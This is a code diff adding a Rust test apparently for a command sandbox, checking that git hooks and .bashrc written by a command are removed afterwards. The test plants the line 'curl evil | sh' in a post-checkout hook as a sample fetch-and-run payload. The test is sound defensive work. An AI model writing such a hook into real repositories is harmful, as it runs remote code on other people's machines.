@@ -365,3 +365,18 @@ fn unsafe_geteuid_is_root() -> bool {
         })
         .unwrap_or(false)
 }
+
+#[test]
+fn protected_paths_created_by_a_command_do_not_survive_it() {
+    let s = sandbox();
+    std::fs::remove_dir_all(s.ws.join(".git/hooks")).unwrap();
+    std::fs::remove_file(s.ws.join(".bashrc")).unwrap();
+    let out = s.bash("mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/post-checkout && echo 'evil' > .bashrc && echo ok > kept.txt && echo done");
+    assert_eq!(stdout(&out), "done\n", "{out}");
+    assert_absent(&s.ws.join(".git/hooks"));
+    assert_absent(&s.ws.join(".bashrc"));
+    assert!(s.ws.join("kept.txt").exists());
+    let removed: Vec<String> = serde_json::from_value(out["removed_protected"].clone()).unwrap();
+    assert!(removed.iter().any(|p| p.ends_with(".git/hooks")), "{out}");
+    assert!(removed.iter().any(|p| p.ends_with(".bashrc")), "{out}");
+}
